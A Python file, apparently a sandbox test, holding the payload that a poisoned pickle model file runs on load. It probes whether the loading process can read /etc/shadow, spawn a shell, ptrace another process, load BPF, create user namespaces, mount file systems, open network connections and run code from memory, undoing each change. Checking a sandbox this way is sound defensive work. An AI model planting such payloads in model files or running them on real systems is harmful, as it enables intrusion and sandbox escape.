# SPDX-License-Identifier: Apache-2.0
"""What the poisoned model file does when it is loaded. poison.py puts this text into the pickle.

It runs inside whatever process unpickles it. `settings` (a dict) is in its globals: which process
and which listeners to look for. Each attack undoes what it did where
it is allowed, so that it can be run outside custody first, to show that it works.

Prints one JSON line for each attack: {"attack", "call", "errno" (null: it worked), "detail"}.
"""

import ctypes
import errno
import json
import os
import platform
import socket
import struct
import sys

CALLS = {
    "x86_64": {"ptrace": 101, "mount": 165, "umount2": 166, "unshare": 272, "bpf": 321, "execveat": 322},
    "aarch64": {"ptrace": 117, "mount": 40, "umount2": 39, "unshare": 97, "bpf": 280, "execveat": 281},
}[platform.machine()]
CLONE_NEWUSER = 0x10000000
PTRACE_SEIZE = 0x4206
BPF_PROG_LOAD = 5
BPF_PROG_TYPE_SOCKET_FILTER = 1
AT_EMPTY_PATH = 0x1000
NVIDIA_MAJOR = 195

WEIGHTS = os.path.dirname(os.path.abspath(sys.argv[sys.argv.index("--model") + 1]))
# Somewhere that it may write, so that a refusal is not about a missing directory.
SCRATCH = next((d for d in (os.environ.get("TMPDIR"), "/scratch", "/tmp")
                if d and os.access(d, os.W_OK)), None)

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    """A raw system call; raises OSError with what the kernel answered."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(CALLS[name]), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def in_child(attack):
    """Runs attack in a forked child, so that what it changes ends with it."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            attack()
            code = 0
        except OSError as error:
            code = error.errno
        os.write(writer, struct.pack("i", code))
        os._exit(0)
    os.close(writer)
    answer = os.read(reader, 4)
    os.close(reader)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if len(answer) == 4:
        code = struct.unpack("i", answer)[0]
        if code:
            raise OSError(code, os.strerror(code))
    elif status < 0:
        raise RuntimeError("the child was killed by signal %d" % -status)


def read_shadow():
    with open("/etc/shadow", "rb") as file:
        file.read(1)
    return "read a byte of it"


def list_processes():
    own = {os.getpid(), os.getppid()}
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in own]
    canary = settings["canary"]
    with open("/proc/%d/cmdline" % canary, "rb") as file:
        if settings["canary_mark"].encode() in file.read():
            return "sees %d other processes" % len(others)
    raise OSError(errno.ESRCH, "that number is one of its own")


def write_weights():
    path = os.path.join(WEIGHTS, "planted")
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    os.unlink(path)
    return "planted a file"


def write_outside():
    os.makedirs(settings["outside"])
    path = os.path.join(settings["outside"], "loot")
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
    os.unlink(path)
    os.rmdir(settings["outside"])
    return "wrote a file"


def run_shell():
    os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", "exit 0"], {}), 0)
    return "ran it"


def connect_to(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as connection:
        connection.settimeout(5)
        connection.connect((address, port))
    return "connected to %s" % address


def connect_loopback():
    return connect_to("127.0.0.1", settings["loopback_port"])


def connect_namespace():
    return connect_to(settings["namespace_address"], settings["namespace_port"])


def listen_elsewhere():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("0.0.0.0", settings["other_port"]))
        listener.listen()
    return "listened on port %d" % settings["other_port"]


def open_gpu():
    try:
        os.close(os.open(settings["gpu_node"], os.O_RDWR))
    except OSError as error:
        if error.errno != errno.ENXIO:
            raise
        return "opened, but no driver answers (ENXIO)"
    return "opened"


def make_gpu_node():
    path = os.path.join(SCRATCH, "gpu-%d" % os.getpid())
    os.mknod(path, 0o020600, os.makedev(NVIDIA_MAJOR, 0))
    os.unlink(path)
    return "made one"


def mount_something():
    path = os.path.join(SCRATCH, "mount-%d" % os.getpid())
    try:
        os.mkdir(path)
    except OSError as error:
        raise RuntimeError("no scratch: %s" % error) from error
    try:
        call("mount", b"tmpfs", path.encode(), b"tmpfs", 0, None)
        call("umount2", path.encode(), 0)
    finally:
        os.rmdir(path)
    return "mounted a tmpfs"


def trace_process():
    in_child(lambda: call("ptrace", PTRACE_SEIZE, settings["canary"], 0, 0))
    return "attached to process %d" % settings["canary"]


def load_bpf():
    code = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xb7, 0, 0, 0, 0x95, 0, 0, 0))
    licence = ctypes.create_string_buffer(b"GPL")
    attributes = ctypes.create_string_buffer(
        struct.pack("<IIQQ", BPF_PROG_TYPE_SOCKET_FILTER, 2, ctypes.addressof(code),
                    ctypes.addressof(licence)), 128)
    os.close(call("bpf", BPF_PROG_LOAD, attributes, len(attributes)))
    return "loaded a program"


def make_user_namespace():
    in_child(lambda: call("unshare", CLONE_NEWUSER))
    return "made one, with every capability inside"


def run_from_memory():
    fd = os.memfd_create("tool")
    with open("/usr/bin/true", "rb") as file:
        os.write(fd, file.read())
    strings = (ctypes.c_char_p * 2)(b"tool", None)
    nothing = (ctypes.c_char_p * 1)(None)
    in_child(lambda: call("execveat", fd, b"", strings, nothing, AT_EMPTY_PATH))
    os.close(fd)
    return "ran a program that is on no disk"


ATTACKS = (
    ("read /etc/shadow", "open", read_shadow),
    ("see other processes", "open", list_processes),
    ("write into the weights directory", "open", write_weights),
    ("write outside its scratch", "mkdir", write_outside),
    ("run /bin/sh", "execve", run_shell),
    ("connect to the host's loopback", "connect", connect_loopback),
    ("connect to another network namespace", "connect", connect_namespace),
    ("listen on a port the profile does not name", "bind", listen_elsewhere),
    ("open a GPU node", "open", open_gpu),
    ("make a GPU node", "mknod", make_gpu_node),
    ("mount a file system", "mount", mount_something),
    ("trace another process", "ptrace", trace_process),
    ("load a BPF program", "bpf", load_bpf),
    ("create a user namespace", "unshare", make_user_namespace),
    ("run a program from memory", "memfd_create", run_from_memory),
)


def run_attacks():
    if SCRATCH is None:
        print("POISON BROKEN: there is no directory that it may write", flush=True)
        return
    for name, syscall, attack in ATTACKS:
        row = {"attack": name, "call": syscall, "errno": None, "detail": ""}
        try:
            row["detail"] = attack()
        except OSError as error:
            row["errno"] = errno.errorcode.get(error.errno, str(error.errno))
            row["detail"] = os.strerror(error.errno) if error.errno else str(error)
        except Exception as error:      # no OSError: the attack itself is broken; the demo fails on it
            row["errno"] = "BROKEN"
            row["detail"] = repr(error)
        print("POISON " + json.dumps(row), flush=True)
    print("POISON DONE", flush=True)


run_attacks()
